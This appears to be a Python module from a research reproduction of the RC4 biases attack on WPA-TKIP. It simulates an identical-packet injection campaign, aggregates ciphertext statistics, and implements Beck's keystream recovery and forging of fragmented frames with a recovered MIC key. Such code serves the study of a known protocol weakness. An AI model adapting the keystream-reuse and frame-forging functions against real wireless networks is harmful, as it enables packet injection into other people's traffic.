"""Identical-packet injection campaign and capture (paper §5.2, §5.4).

The attack needs many encryptions of *one* TCP packet.  The paper's
technique: make the victim open a TCP connection to an attacker server,
then retransmit the same TCP segment over and over (retransmissions are
valid TCP, so firewalls pass them); each Wi-Fi transmission re-encrypts
the identical plaintext under a fresh TSC.  A 7-byte payload gives the
packet a unique length, so the sniffer identifies it without false
positives, and places the MIC/ICV over more strongly-biased keystream
positions (§5.2).

:class:`InjectionCampaign` simulates the whole loop against a
:class:`~repro.tkip.session.TkipSession` victim and produces a
:class:`CaptureSet` — ciphertext byte counts keyed by the low TSC bits,
which is the attack's sufficient statistic.  Retransmissions seen twice
(same TSC) are filtered exactly as the paper's tool does.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..datasets.store import ArchivedStatistics
from ..errors import AttackError
from ..rc4.reference import rc4_crypt
from .crc import icv as compute_icv
from .frames import TkipFrame
from .keymix import per_packet_key
from .michael import michael, michael_header
from .packets import ICV_LEN, MIC_LEN, TcpPacketSpec, build_protected_msdu
from .session import TkipSession

#: Packets/second the paper sustained in practice (§5.4).
PAPER_INJECTION_RATE = 2500.0

#: 802.11 allows an MSDU to be split into at most 16 MPDU fragments —
#: the lever of Beck's keystream-reuse injection.
MAX_FRAGMENTS = 16


#: Every byte value, the bins an XOR permutes.
_BYTES = np.arange(256, dtype=np.uint8)


def ciphertext_counts(
    keystream_counts: np.ndarray,
    plaintext: np.ndarray,
    positions: range,
    plaintext_len: int,
) -> np.ndarray:
    """Ciphertext byte counts at ``positions`` from keystream byte counts.

    XOR with a fixed plaintext byte permutes the 256 bins, so row i
    (position ``p = positions[i]``) counts ciphertext value c
    ``keystream_counts[p - 1, c ^ plaintext[p - 1]]`` times.

    Raises:
        AttackError: on a histogram without 256 bins per row or short of
            the last position, or a plaintext not ``plaintext_len`` long.
    """
    rows = np.asarray(positions, dtype=np.intp) - 1
    plaintext = np.asarray(plaintext, dtype=np.uint8)
    if (
        keystream_counts.ndim != 2 or keystream_counts.shape[1] != 256
        or keystream_counts.shape[0] <= rows.max(initial=-1)
    ):
        raise AttackError(
            f"keystream counts {keystream_counts.shape} do not cover "
            f"positions {positions}"
        )
    if plaintext.shape != (plaintext_len,):
        raise AttackError(
            f"plaintext must be ({plaintext_len},), got {plaintext.shape}"
        )
    return keystream_counts[rows[:, None], _BYTES ^ plaintext[rows, None]]


@dataclass
class CaptureSet(ArchivedStatistics):
    """Ciphertext statistics for one injected packet.

    Implements the :class:`repro.capture.SufficientStatistics` protocol:
    snapshots, exact int64 :meth:`merge` (statistic-level shards from
    independent processes combine losslessly), canonical-JSON summaries,
    and NPZ persistence for checkpointed captures (:meth:`save`/
    :meth:`load` of the arrays and metadata of :meth:`archive`, which a
    :class:`repro.capture.VictimSet` stores once per victim).
    :meth:`add_frame` is the bit-exact per-frame reference path;
    :meth:`add_keystream_counts` is the batched entry the capture engine
    drives.

    Attributes:
        positions: 1-indexed keystream positions covered (the full
            encrypted MSDU span in practice).
        counts: maps low-16 TSC bits -> int64 array (len(positions), 256)
            of ciphertext byte counts.
        num_captured: distinct (by TSC) captures accumulated.
        plaintext_len: length of the encrypted plaintext, used to reject
            foreign frames (the unique-length trick).
    """

    #: The ``statistics_kind`` of this type's checkpoints.
    KIND = "tkip-capture-set"

    positions: range
    plaintext_len: int
    counts: dict[int, np.ndarray] = field(default_factory=dict)
    num_captured: int = 0
    _seen_tsc: set[int] = field(default_factory=set, repr=False)

    def _table(self, tsc: int) -> np.ndarray:
        low = tsc & 0xFFFF
        table = self.counts.get(low)
        if table is None:
            table = np.zeros((len(self.positions), 256), dtype=np.int64)
            self.counts[low] = table
        return table

    def add_frame(self, frame: TkipFrame) -> bool:
        """Ingest a sniffed frame; returns True if it was counted.

        Frames with the wrong length (not our injected packet) and
        retransmissions (TSC already seen) are dropped.
        """
        if len(frame.ciphertext) != self.plaintext_len:
            return False
        if frame.tsc in self._seen_tsc:
            return False
        self._seen_tsc.add(frame.tsc)
        table = self._table(frame.tsc)
        for row, pos in enumerate(self.positions):
            table[row, frame.ciphertext[pos - 1]] += 1
        self.num_captured += 1
        return True

    def add_keystream_counts(
        self,
        tsc: int,
        keystream_counts: np.ndarray,
        plaintext: np.ndarray,
        packets: int,
    ) -> None:
        """Count ``packets`` encryptions of ``plaintext`` at one TSC value.

        The batched equivalent of :meth:`add_frame`: ``keystream_counts``
        is the int64 histogram of those packets' keystream bytes, row
        ``r - 1`` for position r and at least up to the last covered
        position, and ``plaintext`` is the uint8 plaintext
        (``plaintext_len`` bytes).  Packets are statistic-level (distinct
        fresh TSCs with the same low 16 bits), so no per-frame dedup
        applies.
        """
        table = self._table(tsc)
        table += ciphertext_counts(
            keystream_counts, plaintext, self.positions, self.plaintext_len
        )
        self.num_captured += packets

    def snapshot(self) -> "CaptureSet":
        """Independent deep copy (checkpointing / shard seeds)."""
        return CaptureSet(
            positions=self.positions,
            plaintext_len=self.plaintext_len,
            counts={tsc: table.copy() for tsc, table in self.counts.items()},
            num_captured=self.num_captured,
            _seen_tsc=set(self._seen_tsc),
        )

    def check_merge(self, other: "CaptureSet") -> None:
        """Every check :meth:`merge` makes before it changes a counter.

        Raises:
            AttackError: on captures of different shapes.
        """
        if (
            self.positions != other.positions
            or self.plaintext_len != other.plaintext_len
        ):
            raise AttackError("cannot merge captures of different shapes")

    def merge(self, other: "CaptureSet") -> "CaptureSet":
        """Exact int64 merge of shard counts into ``self`` (in place).

        Associative and commutative.  Packet identities (`_seen_tsc`)
        are unioned; statistic-level shards never carry duplicates, and
        packet-level shards are the caller's responsibility to keep
        disjoint.
        """
        self.check_merge(other)
        for tsc, table in other.counts.items():
            mine = self.counts.get(tsc)
            if mine is None:
                self.counts[tsc] = table.copy()
            else:
                mine += table
        self.num_captured += other.num_captured
        self._seen_tsc |= other._seen_tsc
        return self

    def to_jsonable(self) -> dict:
        """Canonical-JSON-ready summary (counters stay in NPZ files)."""
        return {
            "type": self.KIND,
            "num_captured": int(self.num_captured),
            "plaintext_len": int(self.plaintext_len),
            "positions": [
                self.positions.start, self.positions.stop, self.positions.step
            ],
            "num_tsc": len(self.counts),
            "total_counts": int(
                sum(int(table.sum()) for table in self.counts.values())
            ),
        }

    def archive(self) -> tuple[dict[str, np.ndarray], dict]:
        """The per-TSC tables, stacked in TSC order, and the metadata
        :meth:`save` writes.

        Packet identities (`_seen_tsc`) are not archived — a saved
        capture is a statistic-level artefact, like the paper's merged
        worker counters.
        """
        tsc_values = sorted(self.counts)
        stacked = np.array(
            [self.counts[tsc] for tsc in tsc_values], dtype=np.int64
        ).reshape(-1, len(self.positions), 256)
        arrays = {
            "counts": stacked, "tsc_values": np.asarray(tsc_values, np.int64)
        }
        meta = {
            "positions": [
                self.positions.start, self.positions.stop, self.positions.step
            ],
            "plaintext_len": self.plaintext_len,
            "num_captured": self.num_captured,
        }
        return arrays, meta

    @classmethod
    def from_archive(cls, arrays: dict, meta: dict) -> "CaptureSet":
        """A capture from :meth:`archive`'s arrays and metadata.

        Raises:
            AttackError: if the tables do not match the positions.
        """
        capture = cls(
            positions=range(*meta["positions"]),
            plaintext_len=meta["plaintext_len"],
            num_captured=meta["num_captured"],
        )
        stacked = arrays["counts"]
        if stacked.shape[1:] != (len(capture.positions), 256):
            raise AttackError("capture counts shape mismatch")
        for tsc, table in zip(arrays["tsc_values"], stacked):
            capture.counts[int(tsc)] = np.ascontiguousarray(table, np.int64)
        return capture


@dataclass
class InjectionCampaign:
    """Simulated identical-packet injection against a TKIP victim.

    Args:
        session: the victim's transmitting TKIP session (client -> AP).
        spec: the TCP packet the attacker's server keeps retransmitting.
        da, sa: destination/source MACs of the victim's transmissions.
        rate_pps: injection rate, for wall-clock accounting (§5.4).
    """

    session: TkipSession
    spec: TcpPacketSpec
    da: bytes
    sa: bytes
    rate_pps: float = PAPER_INJECTION_RATE

    def plaintext(self) -> bytes:
        """The protected plaintext (constant across transmissions)."""
        return build_protected_msdu(
            self.spec, self.session.mic_key, self.da, self.sa
        )

    def run(
        self,
        num_packets: int,
        positions: range | None = None,
        *,
        retransmit_fraction: float = 0.0,
        rng: np.random.Generator | None = None,
    ) -> CaptureSet:
        """Transmit ``num_packets`` identical packets and capture them.

        Args:
            num_packets: distinct transmissions (each gets a fresh TSC).
            positions: keystream positions to collect (default: whole
                plaintext).
            retransmit_fraction: fraction of frames the sniffer sees
                twice, to exercise the TSC-dedup path.
            rng: randomness for retransmission jitter.

        Returns:
            The populated :class:`CaptureSet`.
        """
        if num_packets <= 0:
            raise AttackError(f"num_packets must be positive, got {num_packets}")
        msdu = self.spec.msdu_data()
        plaintext_len = len(self.plaintext())
        if positions is None:
            positions = range(1, plaintext_len + 1)
        capture = CaptureSet(positions=positions, plaintext_len=plaintext_len)
        for _ in range(num_packets):
            frame = self.session.encapsulate(msdu, self.da, self.sa)
            capture.add_frame(frame)
            if retransmit_fraction > 0.0 and rng is not None:
                if rng.random() < retransmit_fraction:
                    duplicated = capture.add_frame(frame)
                    if duplicated:
                        raise AttackError("TSC dedup failed to drop a retransmission")
        return capture

    def wall_clock_seconds(self, num_packets: int) -> float:
        """Campaign duration at the configured injection rate."""
        return num_packets / self.rate_pps


# ---------------------------------------------------------------------------
# Beck's fragmentation-based keystream reuse (Enhanced TKIP Michael
# Attacks, 2010) — what a recovered plaintext buys beyond the MIC key.
# ---------------------------------------------------------------------------


def recover_keystream(frame: TkipFrame, plaintext: bytes) -> bytes:
    """XOR a known plaintext against a sniffed frame's ciphertext.

    Once the §5 attack decrypts one packet, every further capture of the
    *same* packet (the injection campaign retransmits it constantly)
    hands the attacker the full RC4 keystream for that frame's TSC —
    without ever touching the temporal key.
    """
    if len(plaintext) != len(frame.ciphertext):
        raise AttackError(
            f"plaintext length {len(plaintext)} != ciphertext length "
            f"{len(frame.ciphertext)}"
        )
    return bytes(c ^ p for c, p in zip(frame.ciphertext, plaintext))


@dataclass
class KeystreamPool:
    """Per-TSC keystreams harvested from known-plaintext captures.

    Beck's enhanced attacks bank one keystream per observed TSC; each
    entry lets the attacker encrypt one MPDU of up to
    ``len(keystream) - ICV_LEN`` plaintext bytes at that TSC.  With up
    to :data:`MAX_FRAGMENTS` fragments per MSDU, a pool of short
    keystreams suffices to inject packets far longer than any single
    recovered keystream.
    """

    streams: dict[int, bytes] = field(default_factory=dict)

    def add(self, frame: TkipFrame, plaintext: bytes) -> None:
        """Bank the keystream revealed by a known-plaintext frame."""
        self.streams[frame.tsc] = recover_keystream(frame, plaintext)

    def __len__(self) -> int:
        return len(self.streams)

    def capacity(self, *, max_fragments: int = MAX_FRAGMENTS) -> int:
        """Longest data || MIC blob injectable with the current pool."""
        payloads = sorted(
            (len(ks) - ICV_LEN for ks in self.streams.values()), reverse=True
        )
        return sum(payloads[:max_fragments])

    def take(self, count: int) -> list[tuple[int, bytes]]:
        """The ``count`` longest (tsc, keystream) entries, longest first
        (stable order: longer first, then ascending TSC)."""
        entries = sorted(self.streams.items(), key=lambda kv: (-len(kv[1]), kv[0]))
        if count > len(entries):
            raise AttackError(
                f"pool holds {len(entries)} keystreams, need {count}"
            )
        return entries[:count]


@dataclass(frozen=True)
class TkipFragment:
    """One MPDU of a fragmented, keystream-reused injection.

    Attributes:
        frame: the encrypted fragment as it appears on the air.
        index: 0-based fragment number.
        more: the more-fragments flag (False only on the last MPDU).
    """

    frame: TkipFrame
    index: int
    more: bool


def fragment_msdu(
    msdu_data: bytes,
    mic_key: bytes,
    da: bytes,
    sa: bytes,
    pool: KeystreamPool,
    *,
    priority: int = 0,
    max_fragments: int = MAX_FRAGMENTS,
    ta: bytes | None = None,
) -> list[TkipFragment]:
    """Forge an arbitrary-length MSDU from short reused keystreams.

    Per 802.11: the Michael MIC (computed here with the *recovered* MIC
    key) covers the whole MSDU and travels in the last fragment; the
    data || MIC blob is then split into MPDUs, each carrying its own
    ICV and encrypted — here by XOR with a banked keystream instead of
    a key the attacker does not know.  Fragments reuse their keystream's
    recorded TSC; on the air Beck sends them on a QoS channel whose
    replay counter is still below those values.

    Args:
        msdu_data: plaintext MSDU data (LLC/IP/TCP bytes) to inject.
        mic_key: the recovered Michael key for this direction.
        da, sa: destination/source MACs (Michael header inputs).
        pool: harvested per-TSC keystreams.
        priority: QoS priority (Michael header input / TID).
        max_fragments: fragment budget (802.11 allows 16).
        ta: transmitter address for the forged frames (default ``sa``).

    Raises:
        AttackError: if the pool cannot cover the MSDU within the
            fragment budget.
    """
    if not 1 <= max_fragments <= MAX_FRAGMENTS:
        raise AttackError(
            f"max_fragments must be 1..{MAX_FRAGMENTS}, got {max_fragments}"
        )
    mic = michael(mic_key, michael_header(da, sa, priority) + msdu_data)
    protected = msdu_data + mic
    if pool.capacity(max_fragments=max_fragments) < len(protected):
        raise AttackError(
            f"keystream pool covers {pool.capacity(max_fragments=max_fragments)} "
            f"bytes across {max_fragments} fragments, need {len(protected)}"
        )
    ta = sa if ta is None else ta
    fragments: list[TkipFragment] = []
    offset = 0
    for tsc, keystream in pool.take(min(max_fragments, len(pool.streams))):
        if offset >= len(protected):
            break
        chunk = protected[offset : offset + len(keystream) - ICV_LEN]
        offset += len(chunk)
        plaintext = chunk + compute_icv(chunk)
        ciphertext = bytes(
            p ^ k for p, k in zip(plaintext, keystream)
        )
        fragments.append(
            TkipFragment(
                frame=TkipFrame(
                    ta=ta,
                    da=da,
                    sa=sa,
                    tsc=tsc,
                    ciphertext=ciphertext,
                    priority=priority,
                ),
                index=len(fragments),
                more=True,  # fixed up below
            )
        )
    fragments[-1] = TkipFragment(
        frame=fragments[-1].frame, index=fragments[-1].index, more=False
    )
    return fragments


def reassemble_fragments(tk: bytes, fragments: list[TkipFragment]) -> bytes:
    """Receiver model: decrypt, ICV-check, and reassemble an MSDU.

    Each MPDU is decrypted with the genuine per-packet key (the receiver
    holds the temporal key), its trailing ICV verified, and the payloads
    concatenated in fragment order.  Replay is per QoS TID in a WMM
    receiver, which is exactly why Beck's reused TSC values are accepted
    — the attacker picks a TID whose counter is still below them; this
    model therefore checks fragment ordering and flags, not the
    transmitter's original channel counter.

    Returns:
        The reassembled MSDU data || MIC blob; the caller verifies the
        MIC (:func:`repro.tkip.michael.michael`) against the addresses.

    Raises:
        AttackError: on misnumbered fragments, bad flags, or ICV failure.
    """
    if not fragments:
        raise AttackError("no fragments to reassemble")
    protected = bytearray()
    for position, fragment in enumerate(fragments):
        if fragment.index != position:
            raise AttackError(
                f"fragment {position} carries index {fragment.index}"
            )
        if fragment.more != (position < len(fragments) - 1):
            raise AttackError("more-fragments flag inconsistent with position")
        frame = fragment.frame
        key = per_packet_key(frame.ta, tk, frame.tsc)
        plaintext = rc4_crypt(key, frame.ciphertext)
        if len(plaintext) < ICV_LEN + 1:
            raise AttackError("fragment too short for payload + ICV")
        chunk, icv_bytes = plaintext[:-ICV_LEN], plaintext[-ICV_LEN:]
        if compute_icv(chunk) != icv_bytes:
            raise AttackError(f"fragment {position} failed the ICV check")
        protected.extend(chunk)
    if len(protected) < MIC_LEN + 1:
        raise AttackError("reassembled MSDU shorter than a MIC")
    return bytes(protected)
